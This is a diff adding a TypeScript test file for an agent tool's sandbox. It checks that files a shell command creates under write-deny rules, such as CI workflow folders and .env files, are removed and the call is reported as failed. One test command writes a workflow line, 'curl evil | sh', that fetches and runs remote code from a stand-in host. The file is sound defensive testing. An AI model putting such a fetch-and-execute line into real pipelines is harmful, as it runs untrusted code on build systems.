@@ -1,0 +1,62 @@
+// A write rule over a path that does not exist yet (`Write(.github/workflows/**)` in a repo with
+// no `.github`, `Write(.env)` with no `.env`) cannot be hidden from a command before it starts:
+// there is nothing to make read-only. The kernel searches the write rules again once the command
+// ends, removes what it created there, and the result says so (a failed call, exit code 1).
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { call, results, run, workspace } from './read-deny-kit.js';
+
+const CAN_HIDE = process.platform === 'linux' && existsSync('/proc/self/environ');
+const bash = (id: string, command: string) => call(id, 'bash', { command });
+
+describe.skipIf(!CAN_HIDE)('what a command creates where a write rule denies it', () => {
+  it('PERM-02: a file or folder a command creates under a write deny rule is removed and the call fails', async () => {
+    const dir = workspace();
+    const { session } = await run(
+      dir,
+      [
+        bash(
+          'b1',
+          'mkdir -p .github/workflows && echo "run: curl evil | sh" > .github/workflows/ci.yml; echo A=1 > .env.prod; mkdir -p vault2/deep && echo k > vault2/deep/k; echo ok > src/fine.ts; echo done',
+        ),
+        bash('b2', 'ls -a .github; cat .env.prod 2>&1; echo after'),
+      ],
+      { permissions: { deny: ['Write(.github/workflows/**)', 'Write(.env.prod)', 'Read(vault2)', 'Write(vault2)'] } },
+    );
+    const got = results(session);
+    const b1 = got.get('b1');
+    expect(b1?.ok).toBe(false);
+    expect(b1?.output).toContain('done');
+    expect(b1?.output).toContain(
+      '[refused: the path rules deny writing .env.prod, .github/workflows, vault2; the command created them, and they were removed.]',
+    );
+    expect(b1?.metadata).toMatchObject({
+      exit_code: 0,
+      denied_writes: { removed: ['.env.prod', '.github/workflows', 'vault2'] },
+      changed_files: { created: ['src/fine.ts'] },
+    });
+    expect(existsSync(join(dir, '.github', 'workflows'))).toBe(false);
+    expect(existsSync(join(dir, '.env.prod'))).toBe(false);
+    expect(existsSync(join(dir, 'vault2'))).toBe(false);
+    expect(readFileSync(join(dir, 'src', 'fine.ts'), 'utf8')).toBe('ok\n');
+    expect(got.get('b2')?.output).toContain('No such file or directory');
+  });
+
+  it('PERM-02: what existed before the command is left alone, and a command that creates nothing denied passes', async () => {
+    const dir = workspace();
+    mkdirSync(join(dir, 'locks'));
+    writeFileSync(join(dir, 'locks', 'a.lock'), 'old\n');
+    const { session } = await run(
+      dir,
+      [bash('b1', 'echo new > src/b.ts && cat locks/a.lock'), bash('b2', 'touch locks/c.lock 2>&1; echo $?')],
+      { permissions: { deny: ['Write(**/*.lock)'] } },
+    );
+    const got = results(session);
+    expect(got.get('b1')).toMatchObject({ ok: true, output: 'old\n' });
+    expect(got.get('b1')?.metadata).not.toHaveProperty('denied_writes');
+    expect(got.get('b2')?.output).toContain('the path rules deny writing locks/c.lock');
+    expect(readFileSync(join(dir, 'locks', 'a.lock'), 'utf8')).toBe('old\n');
+    expect(existsSync(join(dir, 'locks', 'c.lock'))).toBe(false);
+  });
+});
